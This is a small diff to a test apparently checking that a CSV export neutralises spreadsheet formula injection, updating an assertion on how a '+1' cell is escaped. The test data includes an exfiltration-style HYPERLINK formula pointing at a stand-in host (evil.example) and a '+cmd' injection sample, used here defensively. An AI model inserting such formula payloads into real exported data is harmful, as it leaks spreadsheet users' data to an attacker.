@@ -79,7 +79,8 @@ test('a formula-cell CSV loads as text: nothing is evaluated or rendered as mark
 	await download.saveAs(file);
 	const exported = readFileSync(file, 'utf8');
 	assert.ok(exported.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), exported);
-	assert.ok(exported.includes("'@SUM(1+1)") && exported.includes("'-2+3+cmd") && exported.includes("\r\n'+1\r\n"), exported);
+	// every formula-looking cell apostrophe-prefixed (PapaParse escapeFormulae also quotes it: "'+1")
+	assert.ok(exported.includes("'@SUM(1+1)") && exported.includes("'-2+3+cmd") && exported.includes('\r\n"\'+1"\r\n'), exported);
 	await s.reloadData();
 	await s.intact('formula cells');
 });
